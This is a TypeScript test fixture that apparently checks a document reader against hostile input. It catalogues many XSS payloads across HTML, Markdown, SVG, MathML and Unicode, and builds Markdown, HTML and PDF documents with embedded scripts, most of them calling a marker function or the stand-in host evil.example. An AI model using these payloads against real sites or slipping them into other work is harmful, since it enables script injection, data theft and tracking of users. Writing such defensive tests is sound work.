/**
 * What hostile documents have been known to try, by the part of a reader that they try it on. Each calls `ran` with its own
 * words, or asks for something of `evil.example`, if anything of it is ever taken for more than text.
 */

/** In HTML, and in Markdown, which lets HTML stand in it. */
export const HTML_VECTORS: Readonly<Record<string, readonly string[]>> = {
  script: [
    `<script>ran('script')</script>`,
    `<SCRIPT>ran('capitals')</SCRIPT >`,
    `<script src="https://evil.example/script.js"></script>`,
    `<script\n>ran('line')</script\n>`,
    `<script/x>ran('slash')</script>`,
    `<scr<script>ipt>ran('nested')</scr</script>ipt>`,
    `<<script>ran('doubled');//<</script>`,
    `<script type="module">import 'https://evil.example/module.js'</script>`,
    `<script>/* </script><img src=x onerror="ran('ended early')"> */</script>`,
    `<script type="text/markdown"># Not yours</script>`,
  ],
  handlers: [
    `<img src=x onerror=ran('img')>`,
    `<img src=x onerror=\u0060ran('backtick')\u0060>`,
    `<img src=x oNeRrOr="ran('mixed')">`,
    `<img/src=x/onerror=ran('slashes')>`,
    `<img src=x\nonerror\n=\nran('lines')>`,
    `<body onload=ran('body')>`,
    `<input autofocus onfocus=ran('focus')>`,
    `<details open ontoggle=ran('toggle')><summary>x</summary></details>`,
    `<video><source onerror=ran('source')></video>`,
    `<audio src=x onerror=ran('audio')></audio>`,
    `<marquee onstart=ran('marquee')>x</marquee>`,
    `<p style="animation:greta 1s" onanimationstart=ran('animation')>x</p>`,
    `<div onpointerenter=ran('pointer') style="position:fixed;inset:0">x</div>`,
    `<button popovertarget=p onbeforetoggle=ran('popover')>x</button><div popover id=p>y</div>`,
  ],
  addresses: [
    `<a href="javascript:ran('plain')">x</a>`,
    `<a href="JaVaScRiPt:ran('mixed')">x</a>`,
    `<a href=" javascript:ran('space')">x</a>`,
    `<a href="\u0001javascript:ran('control')">x</a>`,
    `<a href="java\tscript:ran('tab')">x</a>`,
    `<a href="java&#10;script:ran('line')">x</a>`,
    `<a href="&#106;&#97;&#118;&#97;script:ran('entities')">x</a>`,
    `<a href="&#x6A;avascript&colon;ran('named')">x</a>`,
    `<a href="javascript&#0000058ran('unended')">x</a>`,
    `<a href="vbscript:ran('vb')">x</a>`,
    `<a href="data:text/html,<script>opener.ran('data')</script>">x</a>`,
    `<a href="data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==">x</a>`,
    `<a href="blob:https://evil.example/x">x</a>`,
    `<a href="filesystem:https://evil.example/x">x</a>`,
    `<a href="view-source:javascript:ran('view')">x</a>`,
    `<a href="https://evil.example/ping" ping="https://evil.example/ping">x</a>`,
    `<area href="javascript:ran('area')">`,
    `<form action="javascript:ran('form')"><button>x</button></form>`,
    `<button formaction="javascript:ran('formaction')">x</button>`,
    `<base href="https://evil.example/">`,
    `<link rel="stylesheet" href="https://evil.example/x.css">`,
    `<link rel="preload" as="image" href="https://evil.example/x.png">`,
    `<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2.gif 2x">`,
    `<table background="https://evil.example/table.gif"><tr><td>x</td></tr></table>`,
  ],
  frames: [
    `<iframe src="javascript:top.ran('frame')"></iframe>`,
    `<iframe srcdoc="<script>parent.ran('srcdoc')</script>"></iframe>`,
    `<iframe srcdoc="&lt;script&gt;parent.ran('srcdoc entities')&lt;/script&gt;"></iframe>`,
    `<object data="data:text/html,<script>parent.ran('object')</script>"></object>`,
    `<embed src="https://evil.example/embed">`,
    `<frameset onload=ran('frameset')><frame src="https://evil.example/frame"></frameset>`,
    `<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">`,
    `<meta http-equiv="refresh" content="0;url=javascript:ran('refresh')">`,
    `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline' *">`,
  ],
  foreign: [
    `<svg onload=ran('svg')></svg>`,
    `<svg><script>ran('svg script')</script></svg>`,
    `<svg><script href="https://evil.example/svg.js"/></svg>`,
    `<svg><a xlink:href="javascript:ran('xlink')"><text y="20">x</text></a></svg>`,
    `<svg><animate onbegin=ran('animate') attributeName=x dur=1s></svg>`,
    `<svg><set attributeName="href" to="javascript:ran('set')"/></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' onload='ran(1)'/>#x"/></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.ran('foreign')</script>"></iframe></foreignObject></svg>`,
    `<svg><style><img src=x onerror="ran('svg style')"></style></svg>`,
    `<math href="javascript:ran('math')"><mtext>x</mtext></math>`,
    `<math><maction actiontype="statusline" xlink:href="javascript:ran('maction')">x</maction></math>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran('mglyph')&gt;">`,
  ],
  style: [
    `<style>@import 'https://evil.example/x.css'; body { display: none }</style>`,
    `<p style="background:url(https://evil.example/background.png)">x</p>`,
    `<p style="width:expression(ran('expression'))">x</p>`,
    `<p style="position:fixed;inset:0;z-index:9999;background:red">covers everything</p>`,
    `<style><!--</style><img src=x onerror="ran('style comment')">--></style>`,
  ],
  mutation: [
    `<noscript><p title="</noscript><img src=x onerror=ran('noscript')>">x</p></noscript>`,
    `</noscript><img src=x onerror=ran('noscript end')>`,
    `<template><script>ran('template')</script></template>`,
    `<template shadowrootmode="open"><img src=x onerror=ran('shadow')></template>`,
    `<textarea></textarea><img src=x onerror=ran('textarea')></textarea>`,
    `<title></title><img src=x onerror=ran('title')></title>`,
    `<xmp></xmp><img src=x onerror=ran('xmp')></xmp>`,
    `<plaintext><img src=x onerror=ran('plaintext')>`,
    `<!--><img src=x onerror=ran('comment')>-->`,
    `<!--[if IE]><script>ran('conditional')</script><![endif]-->`,
    `<![CDATA[<img src=x onerror=ran('cdata')>]]>`,
    `<?xml version="1.0"?><?php echo '<img src=x onerror=ran(1)>' ?>`,
    `</greta-reader></main></body></html><img src=x onerror=ran('ends')>`,
    `<greta-reader documents="https://evil.example/x.md"></greta-reader>`,
  ],
  attributes: [
    `"><img src=x onerror=ran('double')>`,
    `'><img src=x onerror=ran('single')>`,
    `" autofocus onfocus="ran('broken')" x="`,
    `\u0060 onmouseover=ran('backtick') \u0060`,
    `\${ran('template literal')} {{constructor.constructor('ran(1)')()}}`,
    `<p title="a&quot;&gt;<img src=x onerror=ran('title')>">x</p>`,
  ],
  unicode: [
    `\uFF1Cscript\uFF1Eran('fullwidth')\uFF1C/script\uFF1E`,
    `<a href="javascript\u2028:ran('separator')">x</a>`,
    `<img src=x onerror\u00A0=ran('nbsp')>`,
    `\u202E<tpircs>)'desrever'(nar<tpircs/>\u202C`,
    `\uD800<img src=x onerror=ran('lone surrogate')>\uDC00`,
    `+ADw-script+AD4-ran('utf-7')+ADw-/script+AD4-`,
    `<\u017Fcript>ran('long s')</\u017Fcript>`,
  ],
  names: [
    `<p id="rows">x</p><a id="greta-findings">y</a>`,
    `<form id="location"><input name="href" value="javascript:ran('clobbered')"></form>`,
    `<img name="querySelector"><img name="getElementById"><img name="body"><a id="documentElement">x</a>`,
    `<p id="__proto__" class="constructor">x</p>`,
  ],
};

/** In Markdown alone. */
export const MARKDOWN_VECTORS: readonly string[] = [
  `[x](javascript:ran('link'))`,
  `[x](JAVASCRIPT:ran('capitals'))`,
  `[x](<java\u0009script:ran('tab')>)`,
  `[x](javascript&colon;ran('entity'))`,
  `[x](&#x6A;avascript:ran('coded'))`,
  `[x](data:text/html,<script>ran(1)</script>)`,
  `[x](vbscript:ran('vb'))`,
  `[x](https://evil.example/ "\\"><img src=x onerror=ran('title')>")`,
  `[x]: javascript:ran('definition')`,
  `[x]`,
  `<javascript:ran('autolink')>`,
  `![x](https://evil.example/image.png)`,
  `![<img src=x onerror=ran('alt')>](x)`,
  `![x](javascript:ran('image'))`,
  `[<img src=x onerror=ran('inside')>](https://evil.example/)`,
  `\`<script>ran('code')</script>\``,
  `\`\`\`"><img src=x onerror=ran('info')>\nx\n\`\`\``,
  `[^"><img src=x onerror=ran('footnote')>]: x`,
  `| <img src=x onerror=ran('cell')> | x |\n| --- | --- |\n| x | <script>ran('cell')</script> |`,
  `# <img src=x onerror=ran('heading')>`,
];

/** Titles, authors and names of files: what stands at the head of a column, in the page's title and in what is saved. */
export const NAME_VECTOR = `"><img src=x onerror=ran(1)><script>ran(2)<\u2215script>`;

const DATED = 'On 14 June 1704 the Swedish army entered Riga with 7,000 soldiers.';

/** All of them in a document of Markdown: each in a passage that tells of something, so that it is marked and found. */
export function hostileMarkdown(): string {
  const head = [
    '---',
    `title: ${JSON.stringify(NAME_VECTOR)}`,
    `author: ${JSON.stringify(NAME_VECTOR)}`,
    `address: "javascript:ran('address')"`,
    'lang: en',
    '---',
  ];
  return [head.join('\n'), ...told([...MARKDOWN_VECTORS, ...Object.values(HTML_VECTORS).flat()])]
    .join('\n\n')
    .concat('\n');
}

/** All of them in a document of HTML. */
export function hostileHtml(): string {
  const vectors = told(Object.values(HTML_VECTORS).flat()).map((text) => `<p>${text}`);
  return `<!doctype html><html lang="en"><title>${NAME_VECTOR}</title><body>${vectors.join('\n')}`;
}

function told(vectors: readonly string[]): string[] {
  return [
    DATED,
    ...vectors.map((vector, at) => `In ${1600 + at} the army took ${at + 2} towns. ${vector}`),
  ];
}

/**
 * A PDF that would run scripts as it is opened, as its page is, by a link and by a function of its font, and says what would be
 * markup. It lacks the table of its parts, which a reader makes up for.
 */
export function hostilePdf(): string {
  const said = [`<script>ran\\('pdf'\\)</script>`, `<img src=x onerror=ran\\(1\\)>`];
  const lines = [...said, 'In 1600 the army of 9,000 men came.'];
  const content = `BT /F 12 Tf 14 TL 72 700 Td ${lines.map((line) => `(${line}) Tj T*`).join(' ')} ET`;
  const script = `/S /JavaScript /JS (app.alert\\(1\\); ran\\('action'\\); app.launchURL\\('https://evil.example/'\\))`;
  return `%PDF-1.7
1 0 obj <</Type /Catalog /Pages 2 0 R /OpenAction <<${script}>> /Names <</JavaScript <</Names [(a) <<${script}>>]>>>>>> endobj
2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj
3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /AA <</O <<${script}>>>> /Annots [6 0 R] /Contents 4 0 R /Resources <</Font <</F 5 0 R>>>>>> endobj
4 0 obj <</Length ${content.length}>> stream
${content}
endstream endobj
5 0 obj <</Type /Font /Subtype /Type1 /BaseFont /Times-Roman /FontMatrix [1 2 3 4 5 (0\\); ran\\('font'\\); //)]>> endobj
6 0 obj <</Type /Annot /Subtype /Link /Rect [72 690 300 720] /A <</S /URI /URI (javascript:ran\\('link'\\))>>>> endobj
trailer <</Root 1 0 R /Info <</Title (<img src=x onerror=ran\\('title'\\)>)>>>>`;
}
